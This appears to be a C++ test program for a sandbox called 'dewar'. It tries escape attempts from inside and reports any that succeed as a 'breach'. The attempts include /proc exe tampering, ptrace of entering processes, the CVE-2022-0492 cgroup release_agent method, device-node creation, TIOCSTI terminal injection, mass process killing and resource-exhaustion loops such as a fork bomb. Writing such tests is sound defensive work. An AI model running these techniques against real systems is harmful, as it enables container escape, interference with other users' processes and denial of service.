// Hostile programs: what a task's code may try against the host and other tasks. Each act prints a line "breach: …" for
// everything that worked and should not have, and what it tried; those that race go on until ./stop exists.
#include <dirent.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#include <cerrno>
#include <csignal>
#include <cstdarg>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <functional>
#include <map>
#include <string>
#include <vector>

namespace {

[[gnu::format(printf, 1, 2)]] void breach(const char* format, ...) {
  std::fputs("breach: ", stdout);
  va_list words;
  va_start(words, format);
  std::vprintf(format, words);
  va_end(words);
  std::fputc('\n', stdout);
}

bool told_to_stop() { return ::access("stop", F_OK) == 0; }

std::vector<std::string> names_in(const std::string& folder) {
  std::vector<std::string> names;
  DIR* dir = ::opendir(folder.c_str());
  if (dir == nullptr) return names;
  while (const dirent* entry = ::readdir(dir)) {
    const std::string name = entry->d_name;
    if (name != "." && name != "..") names.push_back(name);
  }
  ::closedir(dir);
  return names;
}

bool is_number(const std::string& name) { return name.find_first_not_of("0123456789") == std::string::npos; }

/// The other processes that can be seen.
std::vector<pid_t> others() {
  std::vector<pid_t> pids;
  for (const std::string& name : names_in("/proc")) {
    const pid_t pid = is_number(name) ? std::atoi(name.c_str()) : 0;
    if (pid > 0 && pid != ::getpid() && pid != ::getppid()) pids.push_back(pid);
  }
  return pids;
}

std::string text_of(const std::string& path) {
  char buffer[4096];
  const int fd = ::open(path.c_str(), O_RDONLY | O_CLOEXEC);
  const ssize_t size = fd < 0 ? -1 : ::read(fd, buffer, sizeof buffer);
  if (fd >= 0) ::close(fd);
  return size > 0 ? std::string(buffer, static_cast<std::size_t>(size)) : "";
}

/// exe: changes what /proc/<pid>/exe leads to, of everybody that can be seen.
int attack_programs() {
  long tried = 0;
  while (!told_to_stop()) {
    for (const pid_t pid : others()) {
      const std::string exe = "/proc/" + std::to_string(pid) + "/exe";
      ++tried;
      if (::open(exe.c_str(), O_WRONLY | O_CLOEXEC) >= 0) breach("%s opened for writing", exe.c_str());
      if (::chmod(exe.c_str(), 0777) == 0) breach("%s changed its mode", exe.c_str());
      if (::truncate(exe.c_str(), 0) == 0) breach("%s truncated", exe.c_str());
      if (::setxattr(exe.c_str(), "user.evil", "1", 1, 0) == 0) breach("%s got an attribute", exe.c_str());
      const int fd = ::open(exe.c_str(), O_RDONLY | O_CLOEXEC);
      if (fd < 0) continue;
      const std::string again = "/proc/self/fd/" + std::to_string(fd);
      if (::open(again.c_str(), O_WRONLY | O_CLOEXEC) >= 0) breach("%s opened again for writing", exe.c_str());
      if (::fchmod(fd, 0777) == 0) breach("%s changed its mode by its descriptor", exe.c_str());
      ::close(fd);
    }
  }
  return std::printf("tried %ld\n", tried) < 0;
}

/// Whether a process still lacks what confines it. To be asked after a deed: once confined it stays so.
bool is_unconfined(pid_t pid) {
  const std::string status = text_of("/proc/" + std::to_string(pid) + "/status");
  return status.find("NoNewPrivs:\t0") != std::string::npos || status.find("Seccomp:\t0") != std::string::npos;
}

/// enter: gets hold of processes that are just entering the sandbox.
int attack_entering() {
  long tried = 0;
  while (!told_to_stop()) {
    for (const pid_t pid : others()) {
      const std::string process = "/proc/" + std::to_string(pid);
      ++tried;
      char where[4096];
      const ssize_t length = ::readlink((process + "/exe").c_str(), where, sizeof where);
      const std::string exe(where, length > 0 ? static_cast<std::size_t>(length) : 0);
      if (exe == "/" || exe.find("dewar") != std::string::npos) breach("sees the program of %d: %s", pid, exe.c_str());
      for (const std::string& name : names_in(process + "/fd")) {  // their numbers root may know
        const std::string descriptor = process + "/fd/" + name;
        const int fd = ::open(descriptor.c_str(), O_RDONLY | O_NONBLOCK | O_CLOEXEC);
        if (fd < 0) continue;
        if (is_unconfined(pid)) breach("opens descriptor %s of %d", name.c_str(), pid);
        ::close(fd);
      }
      char byte = 0;
      iovec mine{&byte, 1}, its{reinterpret_cast<void*>(0x400000), 1};
      if (::process_vm_readv(pid, &mine, 1, &its, 1, 0) == 1 && is_unconfined(pid))
        breach("reads the memory of %d", pid);
      if (::ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) != 0) continue;
      ::ptrace(PTRACE_INTERRUPT, pid, nullptr, nullptr);
      int status = 0;
      ::waitpid(pid, &status, __WALL);
      if (is_unconfined(pid)) breach("traces %d before it is confined", pid);
      ::ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
    }
  }
  return std::printf("tried %ld\n", tried) < 0;
}

/// fds: tells every descriptor it was given.
int tell_descriptors() {
  const std::string folder = "/proc/self/fd";
  DIR* dir = ::opendir(folder.c_str());
  if (dir == nullptr) return 1;
  const int own = ::dirfd(dir);
  while (const dirent* entry = ::readdir(dir)) {
    if (is_number(entry->d_name) && std::atoi(entry->d_name) != own) std::printf("%s ", entry->d_name);
  }
  char name[4096];
  return std::printf("\ncwd %s\n", ::getcwd(name, sizeof name)) < 0;
}

/// Opens everything below a folder for writing; never writes, but to say so is breach enough.
void open_all(const std::string& folder, int depth, long& tried) {
  for (const std::string& name : names_in(folder)) {
    const std::string path = folder + "/" + name;
    if (folder == "/proc" && (is_number(name) || name == "self" || name == "thread-self")) continue;
    struct stat info {};
    if (::lstat(path.c_str(), &info) != 0) continue;
    if (S_ISDIR(info.st_mode) && depth < 12) open_all(path, depth + 1, tried);
    if (S_ISDIR(info.st_mode)) {
      const std::string made = path + "/evil";
      if (::mkdir(made.c_str(), 0755) == 0) breach("makes %s", made.c_str());
    }
    if (!S_ISREG(info.st_mode)) continue;
    ++tried;
    const int fd = ::open(path.c_str(), O_WRONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0) continue;
    breach("opens %s for writing", path.c_str());
    ::close(fd);
  }
}

/// kernel: every file of /proc and /sys.
int attack_kernel_files() {
  long tried = 0;
  for (const char* folder : {"/proc", "/sys"}) open_all(folder, 0, tried);
  return std::printf("tried %ld\n", tried) < 0;
}

/// release_agent: the public proof of CVE-2022-0492, step by step.
int attack_release_agent() {
  ::mkdir("cgroup", 0755);
  long tried = 0;
  const auto mount_all = [&] {
    for (const char* options : {"memory", "rdma", "pids", "none,name=evil", ""}) {
      ++tried;
      if (::mount("cgroup", "cgroup", "cgroup", 0, options) == 0) breach("mounts cgroup %s", options);
    }
    if (::mount("cgroup2", "cgroup", "cgroup2", 0, nullptr) == 0) breach("mounts cgroup2");
    if (::mount(nullptr, "/sys/fs/cgroup", nullptr, MS_REMOUNT | MS_BIND, nullptr) == 0) breach("remounts cgroups");
  };
  mount_all();
  if (::unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) == 0) {
    breach("makes namespaces");
    mount_all();
  }
  open_all("/sys/fs/cgroup", 0, tried);
  return std::printf("tried %ld\n", tried) < 0;
}

/// strangers: every process number there can be.
int attack_strangers() {
  constexpr pid_t kMost = 1 << 17;
  long seen = 0;
  for (pid_t pid = 2; pid < kMost; ++pid) {
    if (pid == ::getpid() || pid == ::getppid() || ::kill(pid, 0) != 0) {
      if (errno == EPERM) breach("process %d is there", pid);
      continue;
    }
    ++seen;
    const auto pidfd = static_cast<int>(::syscall(SYS_pidfd_open, pid, 0));
    if (pidfd >= 0 && ::syscall(SYS_pidfd_getfd, pidfd, 0, 0) >= 0) breach("takes a descriptor of %d", pid);
    if (::ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) == 0) breach("traces %d", pid);
    ::kill(pid, SIGKILL);
    breach("kills %d", pid);
  }
  return std::printf("tried %d seen %ld\n", kMost, seen) < 0;
}

/// keys ID: the caller's keyrings, and a key that its caller has.
int attack_keys() {
  const auto failed = [](const char* call, long result) {
    if (result >= 0) breach("%s works", call);
    std::printf("%s: %s\n", call, std::strerror(errno));
  };
  failed("add_key", ::syscall(SYS_add_key, "user", "evil", "x", 1, KEY_SPEC_USER_KEYRING));
  failed("request_key", ::syscall(SYS_request_key, "user", "dewar-test", nullptr, 0));
  failed("keyctl", ::syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", "dewar-test", 0));
  failed("keyctl user", ::syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", "dewar-test", 0));
  return 0;
}

/// devices MAJOR MINOR: nodes of the host's memory, of null and of disks, that one among them, wherever it can write.
int attack_devices(unsigned disk_major, unsigned disk_minor) {
  long tried = 0;
  for (const std::string folder : {".", "/tmp", "/run", "/dev/shm", "/var/tmp", "/dev"}) {
    for (const auto& [mode, number] : {std::pair{S_IFCHR, makedev(1, 1)},
                                       {S_IFCHR, makedev(1, 3)},
                                       {S_IFBLK, makedev(8, 0)},
                                       {S_IFBLK, makedev(254, 0)},
                                       {S_IFBLK, makedev(disk_major, disk_minor)}}) {
      const std::string node = folder + "/node";
      ::unlink(node.c_str());
      ++tried;
      const bool made = ::mknod(node.c_str(), mode | 0666, number) == 0;
      if (!made) continue;
      std::printf("made %s %u:%u\n", node.c_str(), major(number), minor(number));
      if (::open(node.c_str(), O_RDONLY | O_CLOEXEC) >= 0 || errno == ENXIO)
        breach("opens %s %u:%u", node.c_str(), major(number), minor(number));
    }
  }
  return std::printf("tried %ld\n", tried) < 0;
}

/// mounts: what lies where the sandbox has put something.
int attack_mount_points() {
  long tried = 0;
  const auto must_fail = [&](const char* what, const std::string& path, int result) {
    ++tried;
    if (result == 0) breach("%s %s", what, path.c_str());
  };
  for (const std::string path : {"/dev", "/dev/null", "/dev/ptmx", "/dev/console", "/dev/fd", "/proc", "/sys", "/etc",
                                 "/etc/passwd", "/usr", "/bin", "/", "/etc/mtab"}) {
    must_fail("unlinks", path, ::unlink(path.c_str()));
    must_fail("removes", path, ::rmdir(path.c_str()));
    must_fail("renames", path, ::rename(path.c_str(), (path + ".old").c_str()));
    must_fail("links", path, ::symlink("/tmp", path.c_str()));
    must_fail("moves away", path, ::rename(path.c_str(), "./away"));
    must_fail("mounts over", path, ::mount("tmpfs", path.c_str(), "tmpfs", 0, nullptr));
    must_fail("binds over", path, ::mount("/tmp", path.c_str(), nullptr, MS_BIND, nullptr));
    must_fail("unmounts", path, ::umount2(path.c_str(), MNT_DETACH));
    must_fail("makes writable", path, ::mount(nullptr, path.c_str(), nullptr, MS_REMOUNT | MS_BIND, nullptr));
  }
  return std::printf("tried %ld\n", tried) < 0;
}

/// terminal [CONSOLE]: types into the terminals that it was given, its session's, and this one.
int attack_terminal(const char* console) {
  const int opened = console == nullptr ? -1 : ::open(console, O_RDWR | O_NOCTTY | O_CLOEXEC);
  if (opened >= 0) std::printf("opened\n");
  for (const int fd : {0, 1, 2, opened}) {
    ::ioctl(fd, TIOCSCTTY, 1);
    for (const char* byte = "evil\n"; *byte != '\0'; ++byte)
      if (::ioctl(fd, TIOCSTI, byte) == 0) breach("types into descriptor %d", fd);
    for (const char what : {3, 6}) {  // TIOCL_PASTESEL; TIOCL_GETSHIFTSTATE, which asks for no capability
      char call[2] = {what, 0};
      if (::ioctl(fd, TIOCLINUX, call) >= 0) breach("TIOCLINUX %d on descriptor %d", what, fd);
    }
  }
  // Into its own terminal, if it has one: some kernels would say no with EIO, ours with EPERM.
  ::ioctl(0, TIOCSTI, "x");
  std::printf("TIOCSTI %s\n", std::strerror(errno));
  return std::printf("tty %s\n", std::strerror(::open("/dev/tty", O_RDWR) < 0 ? errno : 0)) < 0;
}

/// logs FOLDER: puts something else where output goes.
int attack_logs(const std::string& folder) {
  long tried = 0;
  const auto must_fail = [&](const char* what, const std::string& path, bool failed) {
    ++tried;
    if (!failed) breach("%s %s", what, path.c_str());
  };
  std::vector<std::string> paths = {folder};
  for (std::size_t i = 0; i < paths.size(); ++i)
    for (const std::string& name : names_in(paths[i])) paths.push_back(paths[i] + "/" + name);
  for (const std::string& path : paths) {
    must_fail("opens", path, ::open(path.c_str(), O_WRONLY | O_CLOEXEC) < 0);
    must_fail("truncates", path, ::truncate(path.c_str(), 0) != 0);
    must_fail("renames", path, ::rename(path.c_str(), (path + ".old").c_str()) != 0);
    must_fail("moves here", path, ::rename(path.c_str(), "stolen") != 0);
    must_fail("removes", path, ::unlink(path.c_str()) != 0 && ::rmdir(path.c_str()) != 0);
    must_fail("hard-links", path, ::link(path.c_str(), "linked") != 0);
    must_fail("hard-links beside", path, ::link(path.c_str(), (path + ".link").c_str()) != 0);
    must_fail("puts a fifo beside", path, ::mkfifo((path + ".fifo").c_str(), 0666) != 0);
    must_fail("puts a link beside", path, ::symlink("/etc/passwd", (path + ".1").c_str()) != 0);
    must_fail("changes the mode of", path, ::chmod(path.c_str(), 0777) != 0);
    must_fail("changes the owner of", path, ::chown(path.c_str(), 1234, 1234) != 0);
    must_fail("mounts over", path, ::mount("/tmp", path.c_str(), nullptr, MS_BIND, nullptr) != 0);
  }
  // Its own end of the pipe, by another door.
  must_fail("truncates", "its own output", ::ftruncate(1, 0) != 0);
  return std::printf("tried %ld\n", tried) < 0;
}

/// Does it until it fails, then tells how often it worked and why it failed.
int until_refused(const std::function<bool()>& once) {
  long count = 0;
  while (once()) ++count;
  const int error = errno;
  std::printf("%ld %s\n", count, std::strerror(error));
  return 0;
}

/// Writes to a descriptor that does not block until it takes no more.
bool fill(int fd) {
  static char block[1 << 16] = {1};
  if (fd < 0) return false;
  while (::write(fd, block, sizeof block) > 0) {
  }
  return true;
}

/// exhaust KIND [FOLDER]: takes one thing until there is no more.
int exhaust(const std::string& kind, const std::string& folder) {
  constexpr std::size_t kBlock = 1 << 20;
  std::string block(kBlock, 'x');
  long number = 0;
  if (kind == "files") return until_refused([] { return ::open("/dev/null", O_RDONLY) >= 0; });
  if (kind == "inodes") {
    return until_refused([&] {
      const std::string path = folder + "/inode" + std::to_string(number++);
      return ::mknod(path.c_str(), S_IFREG | 0600, 0) == 0;
    });
  }
  if (kind == "processes") {
    const int result = until_refused([] {
      const pid_t pid = ::fork();
      if (pid == 0) {
        ::pause();
        ::_exit(0);
      }
      return pid > 0;
    });
    std::fflush(stdout);
    ::signal(SIGTERM, SIG_IGN);
    ::kill(-1, SIGKILL);  // all but itself that it may: its own children, and the shell above
    return result;
  }
  if (kind == "memory") {
    return until_refused([&] {
      void* more = ::mmap(nullptr, kBlock, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
      if (more != MAP_FAILED) std::memset(more, 1, kBlock);
      return more != MAP_FAILED;
    });
  }
  if (kind == "memfd" || kind == "shm") {
    const int fd = kind == "shm" ? ::open("/dev/shm/evil", O_CREAT | O_RDWR, 0600)
                                 : static_cast<int>(::syscall(SYS_memfd_create, "evil", 0));
    return until_refused([&] { return ::write(fd, block.data(), block.size()) > 0; });
  }
  if (kind == "sent") {
    int ends[2];
    if (::socketpair(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0, ends) != 0) return 1;
    return until_refused([&] {  // a socket that holds sockets that hold sockets
      int next[2];
      if (::socketpair(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0, next) != 0) return false;
      alignas(cmsghdr) char control[CMSG_SPACE(2 * sizeof(int))] = {};
      char byte = 0;
      iovec data{&byte, 1};
      msghdr message{};
      message.msg_iov = &data;
      message.msg_iovlen = 1;
      message.msg_control = control;
      message.msg_controllen = sizeof control;
      cmsghdr* const head = CMSG_FIRSTHDR(&message);
      head->cmsg_level = SOL_SOCKET;
      head->cmsg_type = SCM_RIGHTS;
      head->cmsg_len = CMSG_LEN(2 * sizeof(int));
      std::memcpy(CMSG_DATA(head), ends, sizeof ends);
      if (::sendmsg(next[0], &message, 0) != 1) return false;
      ::close(ends[0]);
      ::close(ends[1]);
      std::memcpy(ends, next, sizeof ends);
      return true;
    });
  }
  // Buffers of the kernel's, with a few descriptors a process.
  for (;;) {
    int ends[2];
    const bool made = kind == "pipes" ? ::pipe2(ends, O_NONBLOCK) == 0
                                      : ::socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, ends) == 0;
    if (made) {
      if (kind == "pipes") ::fcntl(ends[1], F_SETPIPE_SZ, 1 << 20);
      fill(ends[1]);
      if (kind == "sockets") fill(ends[0]);
    } else if (::fork() < 0) {
      return std::printf("no more: %s\n", std::strerror(errno)) < 0;
    } else {
      for (int fd = 3; fd < 1024; ++fd) number += ::fcntl(fd, F_GETFD) >= 0;
      ::pause();
    }
  }
}

}  // namespace

int main(int argc, char** argv) {
  const auto number = [](const char* text) { return static_cast<unsigned>(std::strtoul(text, nullptr, 10)); };
  const std::map<std::string, std::function<int()>> acts = {
      {"devices", [&] { return argc > 3 ? attack_devices(number(argv[2]), number(argv[3])) : 1; }},
      {"enter", attack_entering},
      {"exe", attack_programs},
      {"exhaust", [&] { return argc > 2 ? exhaust(argv[2], argc > 3 ? argv[3] : ".") : 1; }},
      {"fds", tell_descriptors},
      {"kernel", attack_kernel_files},
      {"keys", attack_keys},
      {"logs", [&] { return argc > 2 ? attack_logs(argv[2]) : 1; }},
      {"mounts", attack_mount_points},
      {"release_agent", attack_release_agent},
      {"strangers", attack_strangers},
      {"terminal", [&] { return attack_terminal(argc > 2 ? argv[2] : nullptr); }},
      {"uid", [] { return std::printf("%u %u\n", ::getuid(), ::geteuid()) < 0; }},
  };
  const auto act = argc > 1 ? acts.find(argv[1]) : acts.end();
  return act == acts.end() ? 122 : act->second();
}
